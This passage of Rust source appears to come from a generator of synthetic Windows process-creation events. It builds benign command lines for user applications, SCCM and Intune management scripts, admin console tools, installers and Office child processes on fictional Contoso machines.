            if key == "onedrive_updater" {
                p.integrity = "Medium";
            }
            p
        } else {
            sys_proc(img, pid(rng), t, SYSTEM, st)
        };
        Self::ev(child, parent, gp)
    }

    /// `conhost.exe` for a console program (whose own row is the parent here).
    fn conhost(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let started = t - rng.below(40_000_000) as i64;
        let e = if dev.server || rng.chance(0.7) { self.admin(rng, dev, started, s) } else { self.devtools(rng, dev, started, s) };
        std::mem::swap(&mut s.cmd, &mut s.parent_cmd);
        s.cmd.clear();
        if e.child_path_set {
            std::mem::swap(&mut s.path, &mut s.parent_path);
        }
        s.path.clear();
        let console = e.child;
        let r = rng.below(100);
        if dev.build < 3 || r < 70 {
            w!(s.cmd, r"\??\{}\conhost.exe 0xffffffff -ForceV1", sysdir(dev));
        } else {
            w!(
                s.cmd,
                r"\??\{}\conhost.exe --headless --width {} --height {} --signal 0x{:x} --server 0x{:x}",
                sysdir(dev),
                [80, 120, 80][rng.below(3) as usize],
                [25, 30, 25][rng.below(3) as usize],
                4 * rng.range(100, 1_000),
                4 * rng.range(100, 1_000)
            );
        }
        let mut child = console;
        child.img = self.img("conhost.exe", dev);
        child.pid = pid(rng);
        child.created = t;
        child.style = style(rng, dev);
        child.user = "";
        Ev {
            child,
            parent: console,
            grandparent: e.parent.img.file.as_str(),
            gp_pid: e.parent.pid,
            gp_created: e.parent.created,
            child_path_set: false,
            parent_path_set: e.child_path_set,
        }
    }

    /// Applications a user starts from Explorer.
    fn user_app(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let u = self.user(rng, dev);
        let user = self.uname(u);
        let acct = self.uacct(dev, u);
        let (parent, gp, gp_pid, gp_created) = self.explorer(rng, dev, u, t, s);
        let sys = sysdir(dev);
        let r = rng.below(100);
        let key: &str = match r {
            0..=9 => "outlook",
            10..=19 => "winword",
            20..=27 => "excel",
            28..=30 => "powerpnt",
            31..=35 => "teams",
            36..=41 => "msedge",
            42..=45 => "chrome",
            46..=50 => "notepad.exe",
            51..=53 => "cmd.exe",
            54..=56 => "powershell.exe",
            57..=59 => "SnippingTool.exe",
            60..=61 => "calc.exe",
            62..=63 => "Taskmgr.exe",
            64..=65 => "mmc.exe",
            66..=67 => "7zfm",
            68..=70 => "notepadpp",
            71..=74 => "acrord",
            75..=76 => "code",
            77..=78 => "slack",
            79..=80 => "zoom",
            81 => "keepass",
            82 => "putty",
            83 => "vlc",
            84..=86 => "onedrive",
            87..=88 => "SecurityHealthSystray.exe",
            89..=90 => "terminal",
            91 => "control.exe",
            92 => "mstsc.exe",
            93 => "mspaint.exe",
            94..=98 => "installer",
            _ => "rundll32.exe",
        };
        let img = if key == "installer" { self.cat.temp(rng, dev, 2) } else { self.img(key, dev) };
        let mut elevated = false;
        match key {
            "winword" | "excel" | "powerpnt" => {
                quoted(&mut s.cmd, img, user);
                let ext = match key {
                    "winword" => "docx",
                    "excel" => "xlsx",
                    _ => "pptx",
                };
                if rng.chance(0.7) {
                    w!(s.cmd, r#" /n "C:\Users\{user}\"#);
                    s.cmd.push_str(["Documents", "Downloads", "Desktop", r"OneDrive - Contoso\Documents"][rng.below(4) as usize]);
                    s.cmd.push('\\');
                } else {
                    w!(
                        s.cmd,
                        r#" /n "\\fs01.corp.contoso.com\{}\"#,
                        ["finance", "hr", "projects", "sales", "shared"][rng.below(5) as usize]
                    );
                }
                doc_name(rng, &mut s.cmd);
                w!(s.cmd, r#".{ext}" /o """#);
            }
            "msedge" | "chrome" => {
                quoted(&mut s.cmd, img, user);
                s.cmd.push_str(" --single-argument ");
                url(rng, &mut s.cmd);
            }
            "notepad.exe" => {
                w!(s.cmd, r#""{sys}\NOTEPAD.EXE" C:\Users\{user}\Desktop\"#);
                doc_name(rng, &mut s.cmd);
                s.cmd.push_str(".txt");
            }
            "cmd.exe" => {
                elevated = dev.server || rng.chance(0.1);
                w!(s.cmd, r#""{sys}\cmd.exe" "#);
            }
            "powershell.exe" => {
                elevated = dev.server || rng.chance(0.1);
                w!(s.cmd, r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" "#);
            }
            "Taskmgr.exe" => w!(s.cmd, r#""{sys}\taskmgr.exe" /{}"#, rng.range(0, 7)),
            "mmc.exe" => {
                elevated = true;
                w!(
                    s.cmd,
                    r#""{sys}\mmc.exe" "{sys}\{}" /s"#,
                    ["compmgmt.msc", "eventvwr.msc", "services.msc", "devmgmt.msc", "certmgr.msc"][rng.below(5) as usize]
                );
            }
            "notepadpp" | "acrord" | "7zfm" | "vlc" => {
                quoted(&mut s.cmd, img, user);
                let ext = match key {
                    "notepadpp" => "log",
                    "acrord" => "pdf",
                    "7zfm" => "zip",
                    _ => "mp4",
                };
                w!(s.cmd, r#" "C:\Users\{user}\Downloads\"#);
                doc_name(rng, &mut s.cmd);
                w!(s.cmd, r#".{ext}""#);
            }
            "onedrive" => {
                quoted(&mut s.cmd, img, user);
                s.cmd.push_str(" /background");
            }
            "terminal" => {
                quoted(&mut s.cmd, img, user);
                s.cmd.push_str(" -Embedding");
            }
            "control.exe" => w!(
                s.cmd,
                r#""{sys}\control.exe" /name Microsoft.{}"#,
                ["NetworkAndSharingCenter", "ProgramsAndFeatures", "DeviceManager", "Sound"][rng.below(4) as usize]
            ),
            "mstsc.exe" => w!(
                s.cmd,
                r#""{sys}\mstsc.exe" /v:{}"#,
                self.w.devices[(rng.below(self.w.devices.len().div_ceil(10) as u64) * 10) as usize % self.w.devices.len()].name
            ),
            "SecurityHealthSystray.exe" | "SnippingTool.exe" | "calc.exe" | "mspaint.exe" => w!(s.cmd, r#""{sys}\{}" "#, img.file),
            "rundll32.exe" => {
                w!(s.cmd, r#""{sys}\rundll32.exe" {sys}\shell32.dll,OpenAs_RunDLL C:\Users\{user}\Downloads\"#);
                doc_name(rng, &mut s.cmd);
                s.cmd.push_str(".dat");
            }
            _ => {
                quoted(&mut s.cmd, img, user);
                s.cmd.push(' ');
            }
        }
        let child = user_proc(img, pid(rng), t, acct, user, elevated, parent.session, style(rng, dev));
        Self::ev(child, parent, (gp, gp_pid, gp_created))
    }

    /// Management scripts and admin shells and the console tools they run.
    fn admin(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let sys = sysdir(dev);
        let (svc, ..) = self.services(rng, dev, s);
        s.parent_cmd.clear();
        let services = (svc.img.file.as_str(), svc.pid, svc.created);
        let agent = |key: &str, k: u64, s: &mut Scratch| -> Proc<'a> {
            let img = self.img(key, dev);
            quoted(&mut s.parent_cmd, img, "");
            sys_proc(img, stable_pid(dev.salt, k, 1_000, 4_000), dev.boot + 50 * SECOND, SYSTEM, 0)
        };
        let r = rng.below(100);
        match r {
            0..=19 => {
                let parent = agent("ccmexec", 0xcc, s);
                let img = self.img("powershell.exe", dev);
                w!(
                    s.cmd,
                    r#""{sys}\WindowsPowerShell\v1.0\PowerShell.exe" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass "& '{}\CCM\SystemTemp\"#,
                    windir(dev)
                );
                guid(&mut s.cmd, rng.next_u64(), false);
                s.cmd.push_str(".ps1'\"");
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
            }
            20..=24 => {
                let parent = agent("ccmexec", 0xcc, s);
                let img = self.img("cmd.exe", dev);
                w!(s.cmd, r#"{sys}\cmd.exe /c "{}\ccmcache\"#, windir(dev));
                alnum(&mut s.cmd, rng.below(400), 2, false);
                w!(
                    s.cmd,
                    r#"\{}""#,
                    ["install.cmd", "Deploy-Application.exe -DeployMode Silent", "setup.bat /quiet", "uninstall.cmd"]
                        [rng.below(4) as usize]
                );
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
            }
            25..=31 => {
                let parent = agent("intune", 0x1e, s);
                let img = self.img("agentexecutor", dev);
                let ime = r"C:\Program Files (x86)\Microsoft Intune Management Extension\Policies";
                let script = rng.below(40);
                quoted(&mut s.cmd, img, "");
                let mut id = String::new();
                guid(&mut id, mix(script), false);
                id.push('_');
                guid(&mut id, dev.salt ^ script, false);
                w!(
                    s.cmd,
                    r#" -powershell  -scriptFile "{ime}\Scripts\{id}.ps1"  -outputFile "{ime}\Results\{id}.output"  -errorFile "{ime}\Results\{id}.error"  -timeoutFile "{ime}\Results\{id}.timeout"  -timeoutSeconds 3600  -executionPolicy bypass  -{}  -exitCodeFile "{ime}\Results\{id}.exitcode"  -runAs64 True"#,
                    ["MacroExecution", "ScriptExecution", "Detection"][rng.below(3) as usize]
                );
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
            }
            32..=38 => {
                let intune = agent("intune", 0x1e, s);
                s.parent_cmd.clear();
                let img = self.img("agentexecutor", dev);
                quoted(&mut s.parent_cmd, img, "");
                s.parent_cmd.push_str(" -powershell  -scriptFile ...");
                let parent = sys_proc(img, pid(rng), before(rng, t, 1, 5), SYSTEM, 0);
                let ps = self.img("powershell.exe", dev);
                w!(
                    s.cmd,
                    r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -executionPolicy bypass -file  "C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\"#
                );
                let script = rng.below(40);
                guid(&mut s.cmd, mix(script), false);
                s.cmd.push('_');
                guid(&mut s.cmd, dev.salt ^ script, false);
                s.cmd.push_str(".ps1\" ");
                Self::ev(sys_proc(ps, pid(rng), t, SYSTEM, style(rng, dev)), parent, (intune.img.file.as_str(), intune.pid, intune.created))
            }
            39..=44 if !dev.server => {
                let u = self.user(rng, dev);
                let user = self.uname(u);
                let logon = logon_time(dev, u, t);
                let gpsvc = self.svchost(rng, dev, "netsvcs", "gpsvc", SYSTEM, s);
                s.parent_cmd.clear();
                let img = self.img("gpscript.exe", dev);
                w!(s.parent_cmd, r"{sys}\gpscript.exe /Logon");
                let parent = user_proc(
                    img,
                    stable_pid(dev.salt ^ u as u64, logon as u64, 1_000, 4_000),
                    logon + 12 * SECOND,
                    self.uacct(dev, u),
                    user,
                    false,
                    self.session(dev, u),
                    style(rng, dev),
                );
                let child_img = if rng.chance(0.5) {
                    w!(
                        s.cmd,
                        r#"{sys}\cmd.exe /c ""\\corp.contoso.com\SysVol\corp.contoso.com\Policies\{{31B2F340-016D-11D2-945F-00C04FB984F9}}\User\Scripts\Logon\{}"""#,
                        ["map_drives.cmd", "printers.bat", "logon.cmd"][rng.below(3) as usize]
                    );
                    self.img("cmd.exe", dev)
                } else {
                    let key = self.tool(rng, dev, &mut s.cmd, user, true);
                    self.img(key, dev)
                };
                let child = user_proc(
                    child_img,
                    pid(rng),
                    t.max(parent.created + SECOND),
                    self.uacct(dev, u),
                    user,
                    false,
                    parent.session,
                    style(rng, dev),
                );
                Self::ev(child, parent, (gpsvc.img.file.as_str(), gpsvc.pid, gpsvc.created))
            }
            39..=46 => {
                let parent = agent("monitoringhost", 0x30, s);
                s.parent_cmd.push_str(" -Embedding");
                let img = self.img("cscript.exe", dev);
                w!(
                    s.cmd,
                    r#""{sys}\cscript.exe" /nologo "C:\Program Files\Microsoft Monitoring Agent\Agent\Health Service State\Monitoring Host Temporary Files {}\{}\{}.vbs" {}"#,
                    rng.range(1, 60),
                    rng.range(1_000, 99_999),
                    ["GetDiskInfo", "Microsoft.Windows.Server.LogicalDisk.FreeSpace", "CheckServiceState", "GetNetworkAdapterInfo"]
                        [rng.below(4) as usize],
                    ["C: 0", "false", "'MSSQLSERVER'", ""][rng.below(4) as usize]
                );
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, services)
            }
            _ => {
                // A shell runs a tool: a SYSTEM script, or an administrator / user at a prompt.
                if rng.chance(0.5) {
                    let ps = self.img("powershell.exe", dev);
                    let (gp, k) = if rng.chance(0.5) { ("ccmexec", 0xcc) } else { ("agentexecutor", 0xae) };
                    let g = agent(gp, k, s);
                    s.parent_cmd.clear();
                    w!(
                        s.parent_cmd,
                        r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\ProgramData\Contoso\Scripts\{}.ps1""#,
                        ["Collect-Inventory", "Check-Compliance", "Repair-WMI", "Get-LocalAdmins", "Sync-Printers"][rng.below(5) as usize]
                    );
                    let parent = sys_proc(ps, pid(rng), before(rng, t, 1, 60), SYSTEM, style(rng, dev));
                    let key = self.tool(rng, dev, &mut s.cmd, "", false);
                    let child = sys_proc(self.img(key, dev), pid(rng), t, SYSTEM, style(rng, dev));
                    Self::ev(child, parent, (g.img.file.as_str(), g.pid, g.created))
                } else {
                    let u = self.user(rng, dev);
                    let user = self.uname(u);
                    let acct = self.uacct(dev, u);
                    let (ex, ..) = self.explorer(rng, dev, u, t, s);
                    s.parent_cmd.clear();
                    let elevated = dev.server || rng.chance(0.15);
                    let use_cmd = rng.chance(0.6);
                    let shell = self.img(if use_cmd { "cmd.exe" } else { "powershell.exe" }, dev);
                    if use_cmd {
                        w!(s.parent_cmd, r#""{sys}\cmd.exe" "#);
                    } else {
                        w!(s.parent_cmd, r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" "#);
                    }
                    let parent = user_proc(
                        shell,
                        pid(rng),
                        before(rng, t, 5, 3_000).max(ex.created + SECOND),
                        acct,
                        user,
                        elevated,
                        ex.session,
                        style(rng, dev),
                    );
                    let key = self.tool(rng, dev, &mut s.cmd, user, use_cmd);
                    let child = user_proc(self.img(key, dev), pid(rng), t, acct, user, elevated, ex.session, style(rng, dev));
                    Self::ev(child, parent, (ex.img.file.as_str(), ex.pid, ex.created))
                }
            }
        }
    }

    /// Appends the command line of a console tool an administrator or a script runs; returns
    /// its catalog key. `from_cmd`: typed at cmd.exe (bare name), else started by path.
    fn tool(&self, rng: &mut Rng, dev: &Device, s: &mut String, user: &str, from_cmd: bool) -> &'static str {
        let sys = sysdir(dev);
        let exe = |s: &mut String, name: &str, file: &str| {
            if from_cmd {
                s.push_str(name);
                s.push_str("  ");
            } else {
                w!(s, r#""{sys}\{file}" "#);
            }
        };
        let user = if user.is_empty() { "svc-inventory" } else { user };
        match rng.below(24) {
            0 => {
                exe(s, "ipconfig", "ipconfig.exe");
                s.push_str(["/all", "/flushdns", "/registerdns", "/renew"][rng.below(4) as usize]);
                "ipconfig.exe"
            }
            1 | 2 => {
                exe(s, "net", "net.exe");
                match rng.below(4) {
                    0 => w!(s, r"use H: \\fs01.corp.contoso.com\home$\{user} /persistent:yes"),
                    1 => w!(s, r"use P: \\fs0{}.corp.contoso.com\projects", rng.range(1, 4)),
                    2 => w!(s, "time \\\\dc0{}.corp.contoso.com /set /y", rng.range(1, 3)),
                    _ => s.push_str("use"),
                }
                "net.exe"
            }
            3 => {
                w!(s, r"{sys}\net1 use H: \\fs01.corp.contoso.com\home$\{user} /persistent:yes");
                "net1.exe"
            }
            4 | 5 => {
                exe(s, "reg", "reg.exe");
                match rng.below(3) {
                    0 => s.push_str(r#"query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v DisplayVersion"#),
                    1 => w!(
                        s,
                        r"add HKCU\Software\Contoso\Inventory /v LastRun /t REG_SZ /d 2024-05-0{}T{:02}:{:02} /f",
                        rng.range(1, 2),
                        rng.range(0, 23),
                        rng.range(0, 59)
                    ),
                    _ => s.push_str(r"query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s /f DisplayName"),
                }
                "reg.exe"
            }
            6 => {
                exe(s, "whoami", "whoami.exe");
                s.push_str(["/upn", "/user", "/groups /fo csv"][rng.below(3) as usize]);
                "whoami.exe"
            }
            7 => {
                exe(s, "ping", "PING.EXE");
                w!(s, "-n {} {}", rng.range(1, 4), self.w.devices[rng.below(self.w.devices.len() as u64) as usize].name);
                "PING.EXE"
            }
            8 => {
                exe(s, "findstr", "findstr.exe");
                w!(
                    s,
                    r#"/i /c:"{}" "C:\ProgramData\Contoso\Logs\sync-2024050{}-{}.log""#,
                    ["error", "failed", "timeout", "denied"][rng.below(4) as usize],
                    rng.range(1, 2),
                    rng.range(1, 9_999)
                );
                "findstr.exe"
            }
            9 => {
                exe(s, "tasklist", "tasklist.exe");
                w!(s, r#"/FI "IMAGENAME eq {}" /NH"#, ["OUTLOOK.EXE", "ms-teams.exe", "chrome.exe", "CcmExec.exe"][rng.below(4) as usize]);
                "tasklist.exe"
            }
            10 | 11 => {
                let pkg = ["Fonts", "Wallpaper", "Templates", "Drivers", "Citrix", "Certificates"][rng.below(6) as usize];
                w!(
                    s,
                    r#"Robocopy.exe "\\fs01.corp.contoso.com\deploy$\{pkg}" "C:\ProgramData\Contoso\{pkg}" /MIR /R:1 /W:1 /NP /LOG:"C:\ProgramData\Contoso\Logs\{pkg}-{}.log""#,
                    rng.range(1, 99_999)
                );
                "Robocopy.exe"
            }
            12 => {
                exe(s, "schtasks", "schtasks.exe");
                w!(s, r#"/query /tn "\Contoso\{}" /fo LIST /v"#, ["Inventory", "Backup", "Cleanup", "Reboot"][rng.below(4) as usize]);
                "schtasks.exe"
            }
            13 => {
                exe(s, "sc", "sc.exe");
                w!(
                    s,
                    "{} {}",
                    ["query", "qc", "start", "stop"][rng.below(4) as usize],
                    ["wuauserv", "Spooler", "CcmExec", "BITS", "WinRM", "Sense"][rng.below(6) as usize]
                );
                "sc.exe"
            }
            14 => {
                exe(s, "gpupdate", "gpupdate.exe");
                s.push_str(["/target:computer /force", "/force", "/target:user"][rng.below(3) as usize]);
                "gpupdate.exe"
            }
            15 => {
                exe(s, "timeout", "timeout.exe");
                w!(s, "/t {} /nobreak", rng.range(1, 120));
                "timeout.exe"
            }
            16 => {
                exe(s, "hostname", "HOSTNAME.EXE");
                "HOSTNAME.EXE"
            }
            17 => {
                exe(s, "certutil", "certutil.exe");
                w!(
                    s,
                    r#"-hashfile "C:\ProgramData\Contoso\Packages\{}-{}.msi" SHA256"#,
                    ["agent", "printer", "vpn", "font"][rng.below(4) as usize],
                    rng.range(1, 500)
                );
                "certutil.exe"
            }
            18 => {
                w!(
                    s,
                    r#""{sys}\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -NonInteractive -Command "{}""#,
                    [
                        "Get-CimInstance Win32_OperatingSystem | Select-Object LastBootUpTime | ConvertTo-Json",
                        "Get-Service -Name WinRM,Sense,CcmExec | Select-Object Name,Status",
                        "Get-BitLockerVolume -MountPoint C: | Select-Object -ExpandProperty ProtectionStatus",
                        "(Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion').DisplayVersion",
                    ][rng.below(4) as usize]
                );
                "powershell.exe"
            }
            19 => {
                w!(s, r#"{sys}\cmd.exe /c "dir /b "C:\ProgramData\Contoso\Logs" > C:\Windows\Temp\contoso-{}.txt""#, rng.range(1, 99_999));
                "cmd.exe"
            }
            20 => {
                exe(s, "w32tm", "w32tm.exe");
                s.push_str(["/query /status", "/resync", "/query /peers"][rng.below(3) as usize]);
                "w32tm.exe"
            }
            21 => {
                exe(s, "dsregcmd", "dsregcmd.exe");
                s.push_str("/status");
                "dsregcmd.exe"
            }
            22 => {
                exe(s, "netsh", "netsh.exe");
                s.push_str(
                    ["wlan show interfaces", "interface ip show config", "winhttp show proxy", "advfirewall show allprofiles state"]
                        [rng.below(4) as usize],
                );
                "netsh.exe"
            }
            _ => {
                exe(s, "wevtutil", "wevtutil.exe");
                w!(s, r#"qe System /c:{} /rd:true /f:text /q:"*[System[(Level=2)]]""#, rng.range(10, 200));
                "wevtutil.exe"
            }
        }
    }

    /// MSI installs and their custom actions, installers from Downloads, their `Temp` stubs,
    /// and randomly named executables in `Temp` folders.
    fn installer(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let sys = sysdir(dev);
        let u = self.user(rng, dev);
        let user = self.uname(u);
        let acct = self.uacct(dev, u);
        let r = rng.below(100);
        match r {
            0..=29 => {
                // msiexec.exe /V (the Windows Installer service) and its server processes.
                let (svc, ..) = self.services(rng, dev, s);
                s.parent_cmd.clear();
                let msi = self.img("msiexec.exe", dev);
                w!(s.parent_cmd, r"{sys}\msiexec.exe /V");
                let service = sys_proc(msi, pid(rng), before(rng, t, 5, 900), SYSTEM, style(rng, dev));
                if r < 18 {
                    let wow = rng.chance(0.3);
                    let img = self.img(if wow { "wow64:msiexec.exe" } else { "msiexec.exe" }, dev);
                    if wow {
                        w!(s.cmd, r"{}\syswow64\MsiExec.exe -Embedding ", windir(dev));
                    } else {
                        w!(s.cmd, r"{sys}\MsiExec.exe -Embedding ");
                    }
                    hex(&mut s.cmd, rng.next_u64(), 32, true);
                    s.cmd.push_str([" E Global\\MSI0000", " C", ""][rng.below(3) as usize]);
                    return Self::ev(
                        sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)),
                        service,
                        (svc.img.file.as_str(), svc.pid, svc.created),
                    );
                }
                // A custom action run by rundll32 from the server process.
                s.parent_cmd.clear();
                w!(s.parent_cmd, r"{sys}\MsiExec.exe -Embedding ");
                hex(&mut s.parent_cmd, rng.next_u64(), 32, true);
                s.parent_cmd.push_str(" E Global\\MSI0000");
                let server = sys_proc(msi, pid(rng), before(rng, t, 1, 60), SYSTEM, style(rng, dev));
                let img = self.img("rundll32.exe", dev);
                w!(s.cmd, r#"rundll32.exe "{}\Installer\MSI"#, windir(dev));
                hex(&mut s.cmd, rng.next_u64(), 4, true);
                let ns = ["WixSharp", "Contoso.Setup", "AdvancedInstaller", "Microsoft.Deployment.WindowsInstaller"][rng.below(4) as usize];
                w!(
                    s.cmd,
                    r#".tmp",zzzzInvokeManagedCustomActionOutOfProc SfxCA_{} {} {ns}!{ns}.CustomActions.{}"#,
                    rng.range(10_000_000, 99_999_999),
                    rng.range(10, 999),
                    ["CheckPrerequisites", "InstallService", "ConfigureFirewall", "WriteConfig"][rng.below(4) as usize]
                );
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), server, (msi.file.as_str(), service.pid, service.created))
            }
            30..=64 => {
                // An installer a user downloaded, started from the browser or Explorer.
                let (ex, ..) = self.explorer(rng, dev, u, t, s);
                let img = self.cat.temp(rng, dev, 2);
                let (parent, gp) = if rng.chance(0.5) {
                    s.parent_cmd.clear();
                    let b = self.img("msedge", dev);
                    quoted(&mut s.parent_cmd, b, user);
                    s.parent_cmd.push_str(" --profile-directory=Default");
                    (
                        user_proc(
                            b,
                            pid(rng),
                            before(rng, t, 60, 7_200).max(ex.created + SECOND),
                            acct,
                            user,
                            false,
                            ex.session,
                            style(rng, dev),
                        ),
                        (ex.img.file.as_str(), ex.pid, ex.created),
                    )
                } else {
                    (ex, ("userinit.exe", ex.pid + 8, ex.created - 2 * SECOND))
                };
                quoted(&mut s.cmd, img, user);
                s.cmd.push(' ');
                let child = user_proc(img, pid(rng), t, acct, user, false, ex.session, style(rng, dev));
                Self::ev(child, parent, gp)
            }
            65..=79 => {
                // The installer unpacks and runs a stub from %TEMP%.
                let (ex, ..) = self.explorer(rng, dev, u, t, s);
                s.parent_cmd.clear();
                let setup = self.cat.temp(rng, dev, 2);
                quoted(&mut s.parent_cmd, setup, user);
                let parent = user_proc(setup, pid(rng), before(rng, t, 1, 30), acct, user, false, ex.session, style(rng, dev));
                let (img, elevated) =
                    if rng.chance(0.6) { (self.cat.temp(rng, dev, 3), false) } else { (self.cat.temp(rng, dev, 0), rng.chance(0.5)) };
                quoted(&mut s.cmd, img, user);
                if img.file.ends_with(".tmp") {
                    w!(
                        s.cmd,
                        r#" /SL5="${:X},{},{},"#,
                        rng.range(0x10000, 0xFFFFF),
                        rng.range(1_000_000, 90_000_000),
                        rng.range(100_000, 900_000)
                    );
                    setup.push_path(&mut s.cmd, 0, user);
                    s.cmd.push('"');
                } else {
                    s.cmd.push_str([" /S", " /quiet /norestart", " --silent", ""][rng.below(4) as usize]);
                }
                let child = user_proc(img, pid(rng), t, acct, user, elevated, ex.session, style(rng, dev));
                Self::ev(child, parent, (ex.img.file.as_str(), ex.pid, ex.created))
            }
            80..=91 => {
                // A SYSTEM updater or deployment runs something from C:\Windows\Temp.
                let (parent, gp) = if rng.chance(0.5) {
                    let (svc, ..) = self.services(rng, dev, s);
                    s.parent_cmd.clear();
                    let p = self.svchost(rng, dev, "netsvcs", "Schedule", SYSTEM, s);
                    (p, (svc.img.file.as_str(), svc.pid, svc.created))
                } else {
                    let (svc, ..) = self.services(rng, dev, s);
                    s.parent_cmd.clear();
                    let img = self.img("ccmexec", dev);
                    quoted(&mut s.parent_cmd, img, "");
                    (
                        sys_proc(img, stable_pid(dev.salt, 0xcc, 1_000, 4_000), dev.boot + 50 * SECOND, SYSTEM, 0),
                        (svc.img.file.as_str(), svc.pid, svc.created),
                    )
                };
                let img = self.cat.temp(rng, dev, 1);
                quoted(&mut s.cmd, img, "");
                s.cmd.push_str([" /quiet /norestart", " -silent", " /S /v/qn", " --install --system-level"][rng.below(4) as usize]);
                Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, gp)
            }
            _ => {
                // Edge's updater runs the new version's installer from a GUID folder.
                let (svc, ..) = self.services(rng, dev, s);
                s.parent_cmd.clear();
                let upd = self.img("edgeupdate", dev);
                quoted(&mut s.parent_cmd, upd, "");
                s.parent_cmd.push_str(" /ua /installsource scheduler");
                let parent = sys_proc(upd, pid(rng), before(rng, t, 20, 600), SYSTEM, style(rng, dev));
                let img = self.img("edge_installer", dev);
                s.path.push_str(r"C:\Program Files (x86)\Microsoft\EdgeUpdate\Install\{");
                guid(&mut s.path, rng.next_u64(), true);
                w!(s.path, r"}}\MicrosoftEdge_X64_{}.exe", img.version);
                w!(s.cmd, r#""{}" --msedge --verbose-logging --do-not-launch-msedge --system-level"#, s.path);
                let mut e = Self::ev(sys_proc(img, pid(rng), t, SYSTEM, 0), parent, (svc.img.file.as_str(), svc.pid, svc.created));
                e.child_path_set = true;
                e
            }
        }
    }

    /// Children of Office applications.
    fn office(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let u = self.user(rng, dev);
        let user = self.uname(u);
        let acct = self.uacct(dev, u);
        let (ex, ..) = self.explorer(rng, dev, u, t, s);
        s.parent_cmd.clear();
        let exp = (ex.img.file.as_str(), ex.pid, ex.created);
        let r = rng.below(100);
        if r >= 85 {
            let (svc, ..) = self.services(rng, dev, s);
            s.parent_cmd.clear();
            let c2r = self.img("c2r", dev);
            quoted(&mut s.parent_cmd, c2r, "");
            s.parent_cmd.push_str(" /service");
            let parent = sys_proc(c2r, stable_pid(dev.salt, 0xc2, 1_000, 4_000), dev.boot + 40 * SECOND, SYSTEM, 0);
            let img = self.img("c2rclient", dev);
            quoted(&mut s.cmd, img, "");
            s.cmd.push_str(
                [" /frequentupdate SCHEDULEDTASK displaylevel=False", " /update SCHEDULEDTASK displaylevel=False", " /reportprogress"]
                    [rng.below(3) as usize],
            );
            return Self::ev(sys_proc(img, pid(rng), t, SYSTEM, style(rng, dev)), parent, (svc.img.file.as_str(), svc.pid, svc.created));
        }
        let app = if r < 55 { "outlook" } else { ["winword", "excel", "powerpnt"][rng.below(3) as usize] };
        let office = self.img(app, dev);
        quoted(&mut s.parent_cmd, office, "");
        if app == "outlook" {
            s.parent_cmd.push(' ');
        } else {
            w!(s.parent_cmd, r#" /n "C:\Users\{user}\Documents\"#);
            doc_name(rng, &mut s.parent_cmd);
            s.parent_cmd.push_str(if app == "winword" {
                ".docx\""
            } else if app == "excel" {
                ".xlsx\""
            } else {
                ".pptx\""
            });
        }
        let parent = user_proc(
            office,
            pid(rng),
            before(rng, t, 10, 6 * 3_600).max(ex.created + SECOND),
            acct,
            user,
            false,
            ex.session,
            style(rng, dev),
        );
        let child_key = if app != "outlook" || r < 15 {
            w!(s.cmd, r"{}\splwow64.exe 8192", windir(dev));
            "splwow64.exe"
        } else if r < 40 {
            let b = if rng.chance(0.7) { "msedge" } else { "chrome" };
            quoted(&mut s.cmd, self.img(b, dev), "");
            s.cmd.push_str(" --single-argument ");
            url(rng, &mut s.cmd);
            b
        } else {
            let (key, ext) = [("winword", "docx"), ("excel", "xlsx"), ("acrord", "pdf"), ("powerpnt", "pptx")][rng.below(4) as usize];
            quoted(&mut s.cmd, self.img(key, dev), "");
            w!(s.cmd, r#" "C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\"#);
            alnum(&mut s.cmd, dev.salt ^ u as u64, 8, true);
            s.cmd.push('\\');
            doc_name(rng, &mut s.cmd);
            w!(s.cmd, r#".{ext}""#);
            key
        };
        let child = user_proc(self.img(child_key, dev), pid(rng), t, acct, user, false, ex.session, style(rng, dev));
        Self::ev(child, parent, exp)
    }

    /// Developer tools: VS Code's terminals and git, git's helpers, node, python, and Java
    /// with long class paths.
    fn devtools(&self, rng: &mut Rng, dev: &'a Device, t: i64, s: &mut Scratch) -> Ev<'a> {
        let sys = sysdir(dev);
        let u = self.user(rng, dev);
        let user = self.uname(u);
        let acct = self.uacct(dev, u);
        let (ex, ..) = self.explorer(rng, dev, u, t, s);
        s.parent_cmd.clear();
        let exp = (ex.img.file.as_str(), ex.pid, ex.created);
        let repo = REPOS[(mix(dev.salt ^ rng.below(3)) % REPOS.len() as u64) as usize];
        let code = self.img("code", dev);
        let r = rng.below(100);
        let (parent, gp) = if r < 55 {
            quoted(&mut s.parent_cmd, code, user);
            s.parent_cmd.push(' ');
            (
                user_proc(
                    code,
                    stable_pid(dev.salt ^ u as u64 ^ 0xc0de, 0, 500, 15_000),
                    before(rng, t, 60, 4 * 3_600).max(ex.created + SECOND),
                    acct,
                    user,
                    false,
                    ex.session,
                    style(rng, dev),
                ),
                exp,
            )
        } else {
